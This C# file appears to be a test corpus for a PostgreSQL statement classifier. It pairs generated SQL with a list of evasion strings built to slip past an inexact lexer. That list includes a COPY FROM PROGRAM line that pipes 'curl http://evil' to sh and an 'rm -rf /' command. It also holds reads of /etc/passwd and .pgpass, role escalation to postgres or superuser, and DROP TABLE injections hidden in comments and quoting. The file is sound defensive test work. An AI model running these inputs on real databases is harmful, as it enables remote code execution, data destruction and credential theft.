using System.Text;
using System.Text.RegularExpressions;

namespace Gatehouse.Tests.Policy;

/// <summary>The texts the oracle test feeds both PostgreSQL's parser and the classifier.</summary>
internal static partial class PgClassifierOracleCorpus
{
    private const string ShareDirectory = "/usr/share/postgresql/15";
    private const int Seed = 20_260_601;

    /// <summary>Extension and catalog scripts shipped with PostgreSQL 15, made runnable outside psql.</summary>
    public static IEnumerable<(string Name, string Text)> ServerScripts()
    {
        if (!Directory.Exists(ShareDirectory))
            yield break;
        foreach (var path in Directory.EnumerateFiles(ShareDirectory, "*.sql", SearchOption.AllDirectories).Order(StringComparer.Ordinal))
        {
            // psql meta-commands (\echo, \quit) are not SQL; placeholders are filled in by CREATE EXTENSION.
            var lines = File.ReadAllLines(path).Where(l => !l.StartsWith('\\'));
            var text = Placeholder().Replace(string.Join('\n', lines), "public")
                .Replace("'MODULE_PATHNAME'", "'$libdir/x'", StringComparison.Ordinal)
                .Replace("MODULE_PATHNAME", "'$libdir/x'", StringComparison.Ordinal);
            yield return (Path.GetRelativePath(ShareDirectory, path), text);
        }
    }

    [GeneratedRegex(@"@[a-z_]+(:[a-z_]+)?@")]
    private static partial Regex Placeholder();

    // Statement templates: tokens separated by single spaces; the generator puts whitespace or comments between
    // tokens and re-cases keywords. {t} is a table name, {c} a column, {s} a string literal, {f} a function body.
    private static readonly string[] Templates =
    [
        "SELECT * FROM {t}",
        "SELECT {c} , count ( * ) FROM {t} WHERE {c} = {s} GROUP BY {c} ORDER BY 1 LIMIT 10",
        "SELECT 1",
        "VALUES ( 1 , {s} ) , ( 2 , {s} )",
        "TABLE {t}",
        "SELECT {c} FROM {t} FOR UPDATE",
        "SELECT * FROM {t} a JOIN {t} b ON a . id = b . id WHERE a . {c} IN ( SELECT {c} FROM {t} )",
        "SELECT {s} :: text || {s}",
        "SELECT * INTO {t} FROM {t}",
        "WITH x AS ( SELECT 1 ) SELECT * FROM x",
        "WITH x AS ( DELETE FROM {t} RETURNING * ) SELECT * FROM x",
        "WITH x AS ( UPDATE {t} SET {c} = 1 WHERE id = 2 RETURNING * ) SELECT * FROM x",
        "WITH x AS ( INSERT INTO {t} VALUES ( 1 ) RETURNING * ) SELECT * FROM x",
        "WITH RECURSIVE r ( n ) AS ( SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5 ) SELECT * FROM r",
        "INSERT INTO {t} ( {c} ) VALUES ( {s} )",
        "INSERT INTO {t} SELECT * FROM {t} ON CONFLICT DO NOTHING",
        "INSERT INTO {t} VALUES ( 1 ) ON CONFLICT ( id ) DO UPDATE SET {c} = excluded . {c}",
        "UPDATE {t} SET {c} = {s} WHERE id = 1",
        "UPDATE {t} SET {c} = {s}",
        "UPDATE ONLY {t} AS u SET {c} = 1 FROM {t} v WHERE u . id = v . id",
        "DELETE FROM {t} WHERE {c} = {s}",
        "DELETE FROM {t}",
        "DELETE FROM ONLY {t} USING {t} x WHERE x . id = {t} . id",
        "DELETE FROM {t} WHERE CURRENT OF cur",
        "MERGE INTO {t} t USING {t} s ON t . id = s . id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES ( s . id )",
        "CREATE TABLE {t} ( id int PRIMARY KEY , {c} text DEFAULT {s} )",
        "CREATE TABLE IF NOT EXISTS {t} ( LIKE {t} INCLUDING ALL )",
        "CREATE TEMP TABLE {t} AS SELECT 1 AS a",
        "CREATE MATERIALIZED VIEW {t} AS SELECT 1",
        "CREATE VIEW {t} AS SELECT {c} FROM {t}",
        "CREATE OR REPLACE VIEW {t} AS SELECT {s} AS x",
        "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON {t} ( {c} )",
        "CREATE UNIQUE INDEX ON {t} USING btree ( lower ( {c} ) )",
        "CREATE SCHEMA IF NOT EXISTS s",
        "CREATE SEQUENCE {t} START 1",
        "CREATE EXTENSION IF NOT EXISTS hstore",
        "CREATE FUNCTION f ( a int ) RETURNS int LANGUAGE sql AS {f}",
        "CREATE OR REPLACE FUNCTION f ( ) RETURNS trigger LANGUAGE plpgsql AS {f}",
        "CREATE PROCEDURE p ( ) LANGUAGE sql AS {f}",
        "CREATE FUNCTION f ( ) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 ; SELECT 2 ; END",
        "CREATE FUNCTION f ( ) RETURNS int LANGUAGE sql RETURN 1",
        "CREATE TRIGGER tr BEFORE INSERT ON {t} FOR EACH ROW EXECUTE FUNCTION f ( )",
        "CREATE RULE r AS ON INSERT TO {t} DO INSTEAD NOTHING",
        "CREATE RULE r AS ON UPDATE TO {t} DO ALSO ( DELETE FROM {t} ; INSERT INTO {t} VALUES ( 1 ) )",
        "CREATE ROLE r LOGIN PASSWORD {s}",
        "CREATE USER u WITH SUPERUSER",
        "ALTER ROLE r WITH NOSUPERUSER",
        "ALTER ROLE r SET search_path = public",
        "ALTER ROLE r RENAME TO r2",
        "DROP ROLE IF EXISTS r",
        "DROP TABLE {t}",
        "DROP TABLE IF EXISTS {t} , {t} CASCADE",
        "DROP VIEW {t}",
        "DROP INDEX CONCURRENTLY i",
        "DROP FUNCTION IF EXISTS f ( int )",
        "DROP SCHEMA s CASCADE",
        "DROP DATABASE d",
        "DROP DATABASE IF EXISTS d WITH ( FORCE )",
        "DROP EXTENSION hstore",
        "TRUNCATE {t}",
        "TRUNCATE TABLE ONLY {t} RESTART IDENTITY CASCADE",
        "GRANT SELECT , INSERT ON {t} TO r",
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "REVOKE ALL ON {t} FROM r",
        "GRANT r TO u",
        "REVOKE r FROM u",
        "ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO r",
        "COPY {t} FROM STDIN",
        "COPY {t} TO STDOUT WITH ( FORMAT csv )",
        "COPY {t} ( {c} ) TO {s}",
        "COPY {t} FROM {s} WITH ( FORMAT csv , HEADER true )",
        "COPY {t} TO PROGRAM {s}",
        "COPY {t} FROM PROGRAM {s}",
        "COPY ( SELECT * FROM {t} ) TO STDOUT",
        "COPY ( DELETE FROM {t} RETURNING * ) TO STDOUT",
        "EXPLAIN SELECT * FROM {t}",
        "EXPLAIN DELETE FROM {t}",
        "EXPLAIN ANALYZE SELECT 1",
        "EXPLAIN ANALYZE DELETE FROM {t}",
        "EXPLAIN ANALYZE VERBOSE UPDATE {t} SET {c} = 1 WHERE id = 1",
        "EXPLAIN ( ANALYZE , BUFFERS ) INSERT INTO {t} VALUES ( 1 )",
        "EXPLAIN ( ANALYZE false ) DELETE FROM {t}",
        "EXPLAIN ( ANALYZE off , COSTS off ) UPDATE {t} SET {c} = 1",
        "EXPLAIN ( FORMAT json , ANALYZE on ) DELETE FROM {t} WHERE id = 1",
        "SET search_path = public , pg_catalog",
        "SET LOCAL statement_timeout = {s}",
        "SET ROLE r",
        "SET ROLE NONE",
        "SET LOCAL ROLE {s}",
        "SET SESSION AUTHORIZATION u",
        "SET SESSION AUTHORIZATION DEFAULT",
        "RESET ROLE",
        "RESET ALL",
        "SET TIME ZONE {s}",
        "SHOW search_path",
        "SHOW ALL",
        "BEGIN",
        "BEGIN ISOLATION LEVEL SERIALIZABLE",
        "START TRANSACTION READ ONLY",
        "COMMIT",
        "ROLLBACK",
        "SAVEPOINT sp",
        "RELEASE SAVEPOINT sp",
        "ROLLBACK TO SAVEPOINT sp",
        "PREPARE TRANSACTION {s}",
        "COMMIT PREPARED {s}",
        "DO {f}",
        "DO LANGUAGE plpgsql {f}",
        "CALL p ( 1 , {s} )",
        "PREPARE q AS SELECT * FROM {t} WHERE id = $1",
        "PREPARE q ( int ) AS DELETE FROM {t}",
        "PREPARE q AS UPDATE {t} SET {c} = $1",
        "EXECUTE q ( 1 )",
        "DEALLOCATE q",
        "DEALLOCATE ALL",
        "ALTER TABLE {t} ADD COLUMN {c} int",
        "ALTER TABLE {t} DROP COLUMN {c}",
        "ALTER TABLE IF EXISTS {t} DROP COLUMN IF EXISTS {c} CASCADE",
        "ALTER TABLE {t} DROP CONSTRAINT k",
        "ALTER TABLE {t} ADD CONSTRAINT k CHECK ( {c} > 0 ) , DROP CONSTRAINT k2",
        "ALTER TABLE {t} RENAME TO t2",
        "ALTER TABLE {t} RENAME COLUMN {c} TO c2",
        "ALTER TABLE {t} OWNER TO r",
        "ALTER SYSTEM SET work_mem = {s}",
        "ALTER SYSTEM RESET ALL",
        "VACUUM",
        "VACUUM ( FULL , ANALYZE ) {t}",
        "ANALYZE {t}",
        "CHECKPOINT",
        "REINDEX TABLE {t}",
        "CLUSTER {t} USING i",
        "REFRESH MATERIALIZED VIEW CONCURRENTLY {t}",
        "COMMENT ON TABLE {t} IS {s}",
        "LOCK TABLE {t} IN ACCESS EXCLUSIVE MODE",
        "LISTEN ch",
        "UNLISTEN *",
        "NOTIFY ch , {s}",
        "DECLARE cur CURSOR WITH HOLD FOR SELECT * FROM {t}",
        "FETCH FORWARD 10 FROM cur",
        "CLOSE cur",
        "DISCARD ALL",
        "LOAD {s}",
        "SELECT pg_terminate_backend ( 1 )",
        "SELECT pg_catalog . pg_cancel_backend ( pid ) FROM pg_stat_activity",
        "SELECT pg_read_file ( {s} )",
        "SELECT * FROM pg_ls_dir ( {s} )",
        "SELECT lo_import ( {s} ) , lo_export ( 1 , {s} )",
        "SELECT * FROM dblink ( {s} , {s} ) AS x ( a int )",
        "SELECT dblink_exec ( {s} )",
        "SELECT pg_reload_conf ( )",
        "SELECT set_config ( 'role' , {s} , false )",
        "SELECT set_config ( 'search_path' , {s} , true )",
        "SELECT query_to_xml ( {s} , true , true , '' )",
        "SELECT * FROM {t} WHERE {c} = ( SELECT pg_read_binary_file ( {s} ) )",
        "UPDATE {t} SET {c} = pg_read_file ( {s} ) WHERE id = 1",
    ];

    private static readonly string[] Tables =
    [
        "t", "accounts", "public.accounts", "\"Accounts\"", "\"public\".\"t\"", "s.\"weird \"\" name\"", "U&\"d\\0061ta\"",
        "\"DROP TABLE t\"", "\"t;\"", "pg_catalog.pg_class",
    ];

    private static readonly string[] Columns = ["c", "\"C\"", "\"select\"", "balance", "U&\"\\0063ol\""];

    private static readonly string[] Strings =
    [
        "'x'", "'it''s'", "E'a\\'b'", "E'\\\\'", "$$x$$", "$tag$ ; DROP TABLE t ; $tag$", "$a$ $$ $a$", "'--not a comment'",
        "'/* not a comment */'", "U&'\\0041'", "E'\\x41; DELETE FROM t'", "'/tmp/x'", "'DROP TABLE t'", "e'\\'' ",
    ];

    private static readonly string[] Bodies =
    [
        "$$ SELECT 1 $$", "$body$ BEGIN DELETE FROM t ; RETURN NULL ; END $body$", "'SELECT 1'", "$f$ DROP TABLE t $f$",
        "$_$ SELECT $$x$$ $_$", "E'BEGIN RAISE NOTICE \\'x\\'; END'", "$q$ BEGIN EXECUTE 'DROP TABLE t' ; END $q$",
    ];

    private static readonly string[] Separators =
    [
        " ", " ", " ", "\n", "\t", "/* x */", " /* x */ ", "--x\n", " -- ; DROP TABLE t\n", "/* /* nested */ */",
        "/* ; */", "\r\n", " /*/ */ ",
    ];

    /// <summary>Statements built from the templates, deterministic for the seed; a fifth are multi-statement texts.</summary>
    public static IEnumerable<(string Name, string Text)> Generated(int count)
    {
        var random = new Random(Seed);
        for (var i = 0; i < count; i++)
        {
            if (i % 5 == 4)
            {
                var parts = Enumerable.Range(0, random.Next(2, 5)).Select(_ => Render(random, Templates[random.Next(Templates.Length)]));
                var joiner = random.Next(3) switch { 0 => ";", 1 => " ;\n", _ => "; /* ; */ ;" };
                var tail = random.Next(2) == 0 ? ";" : "";
                yield return ($"generated #{i}", string.Join(joiner, parts) + tail);
            }
            else
            {
                yield return ($"generated #{i}", Render(random, Templates[i % Templates.Length]));
            }
        }
    }

    private static string Render(Random random, string template)
    {
        var text = new StringBuilder();
        foreach (var token in template.Split(' '))
        {
            if (text.Length > 0)
                text.Append(Separators[random.Next(Separators.Length)]);
            text.Append(token switch
            {
                "{t}" => Tables[random.Next(Tables.Length)],
                "{c}" => Columns[random.Next(Columns.Length)],
                "{s}" => Strings[random.Next(Strings.Length)],
                "{f}" => Bodies[random.Next(Bodies.Length)],
                // Quoted text and parameters keep their spelling; keywords and bare names fold, so re-case them.
                _ when token.Any(ch => ch is '\'' or '"' or '$') => token,
                _ => ReCase(random, token),
            });
        }
        return text.ToString();
    }

    private static string ReCase(Random random, string token) => random.Next(3) switch
    {
        0 => token.ToUpperInvariant(),
        1 => token.ToLowerInvariant(),
        _ => string.Concat(token.Select(ch => random.Next(2) == 0 ? char.ToUpperInvariant(ch) : char.ToLowerInvariant(ch))),
    };

    /// <summary>Evasion attempts: texts built to look harmless to a lexer that is not exact.</summary>
    public static readonly string[] Hostile =
    [
        "DROP TABLE t",
        "drop table t",
        "DROP/**/TABLE t",
        "DROP--x\nTABLE t",
        "SELECT $a$ DROP TABLE t $a$",
        "SELECT E'\\\\'; DROP TABLE t; --'",
        "SELECT E'\\'; DROP TABLE t; --'",
        "SELECT 'a\\'; DROP TABLE t; --'",
        "SELECT /* /* */ DROP TABLE t; */ 1",
        "SELECT /* /* nested */ still comment */ 1; DROP TABLE t",
        "SELECT 1 /* unterminated; DROP TABLE t",
        "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "with x as (update t set a = 1 returning *) select 1",
        "WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM a",
        "WITH x AS MATERIALIZED (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x",
        "EXPLAIN ANALYZE DELETE FROM t",
        "EXPLAIN (ANALYZE) DELETE FROM t",
        "EXPLAIN (ANALYZE TRUE, FORMAT JSON) UPDATE t SET a = 1",
        "EXPLAIN (ANALYZE 1) INSERT INTO t VALUES (1)",
        "EXPLAIN (ANALYZE 0) DELETE FROM t",
        "EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
        "COPY t TO PROGRAM 'x'",
        "COPY t FROM PROGRAM 'curl http://evil | sh'",
        "COPY (SELECT 1) TO PROGRAM 'rm -rf /'",
        "COPY t TO '/etc/passwd'",
        "COPY t FROM '/var/lib/postgresql/.pgpass'",
        "SET ROLE postgres",
        "set role \"postgres\"",
        "SET SESSION ROLE postgres",
        "SET LOCAL ROLE postgres",
        "SET SESSION AUTHORIZATION postgres",
        "RESET SESSION AUTHORIZATION",
        "select set_config('role','x',false)",
        "SELECT pg_catalog.set_config('ROLE', 'postgres', false)",
        "SELECT set_config('session_authorization', 'postgres', false)",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END",
        "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END; DROP TABLE t",
        "PREPARE p AS DELETE FROM t",
        "PREPARE p(int) AS UPDATE t SET a = $1",
        "EXECUTE p",
        "EXECUTE p(1); DROP TABLE t",
        "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$",
        "DO $x$ BEGIN PERFORM 1; END $x$; DROP TABLE t",
        "SELECT $tag$ $notag$ ; DROP TABLE t ; $tag$",
        "SELECT $1; DROP TABLE t",
        "SELECT U&\"d\\0072op\" FROM t",
        "SELECT U&'\\0027; DROP TABLE t; --'",
        "SELECT \"a\"\"; DROP TABLE t; --\"",
        "SELECT 'a'\n'b'; DROP TABLE t",
        "SELECT 1;DROP TABLE t",
        "SELECT 1;;;DROP TABLE t;;",
        ";;; DROP TABLE t",
        "/* leading */ DROP TABLE t",
        "-- comment\nDROP TABLE t",
        "(SELECT 1); DROP SCHEMA public CASCADE",
        "SELECT 1 UNION SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "SELECT * FROM t WHERE id IN (SELECT pg_cancel_backend(1))",
        "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
        "SELECT PG_READ_FILE('/etc/passwd')",
        "SELECT lo_export(16384, '/tmp/x')",
        "SELECT dblink_exec('dbname=postgres', 'DROP TABLE t')",
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
        "DELETE FROM t WHERE CURRENT OF c",
        "DELETE FROM t -- WHERE id = 1",
        "DELETE FROM t /* WHERE id = 1 */",
        "UPDATE t SET a = 'WHERE'",
        "UPDATE t SET a = 1 -- WHERE id = 1",
        "DELETE FROM \"where\"",
        "DELETE FROM t AS \"where\"",
        "TRUNCATE t",
        "TRUNCATE/**/t",
        "GRANT ALL PRIVILEGES ON DATABASE d TO PUBLIC",
        "REVOKE ALL ON SCHEMA public FROM PUBLIC",
        "ALTER ROLE me SUPERUSER",
        "ALTER SYSTEM SET shared_preload_libraries = 'evil'",
        "ALTER TABLE t DROP COLUMN secret",
        "ALTER TABLE t ALTER COLUMN a TYPE text, DROP CONSTRAINT c",
        "DROP DATABASE postgres",
        "DROP SCHEMA IF EXISTS s CASCADE",
        "CREATE TABLE x AS SELECT pg_read_file('/etc/passwd')",
        "SELECT * INTO x FROM t",
        "CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
        "CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM t; SELECT 1)",
        "SELECT 1 \\g",
        "SELECT E'\\u0027; DROP TABLE t; --'",
        "SELECT 'x' -- '; DROP TABLE t\n",
        "SELECT $$ /* $$; DROP TABLE t; -- */",
        "SELECT 1 /**/; /**/ DELETE FROM t",
        "SELECT 1\u00a0; DROP TABLE t",
        "SELECT 'é'; DELETE FROM t",
        "SELECT \"é\"; DROP TABLE \"ü\"",
        "BEGIN; DROP TABLE t; COMMIT",
        "START TRANSACTION; DELETE FROM t; ROLLBACK",
        "DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)",
        "LOAD '/tmp/evil.so'",
        "CALL p()",
        "VACUUM FULL",
        "CHECKPOINT",
        "LOCK t",
        "NOTIFY ch, 'DROP TABLE t'",
        "SHOW ALL",
        "VALUES (1); DELETE FROM t",
        "TABLE t; TRUNCATE t",
        "SELECT 0x1F; DROP TABLE t",
        "SELECT 1e; DROP TABLE t",
        "SELECT 1.e5, .5e-3, 1_000",
        "SELECT a::text FROM t; DROP TABLE t",
        "SELECT ARRAY[1,2][1:2]; DELETE FROM t",
        "SELECT 1 OPERATOR(pg_catalog.+) 2; DROP TABLE t",
        "SELECT $$; DROP TABLE t",
        "SELECT 'unterminated; DROP TABLE t",
        "SELECT \"unterminated; DROP TABLE t",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "WITH x AS (SELECT 1) DELETE FROM t",
        "WITH x AS (SELECT 1) UPDATE t SET a = 1",
        "INSERT INTO t SELECT * FROM pg_ls_dir('.')",
    ];
}
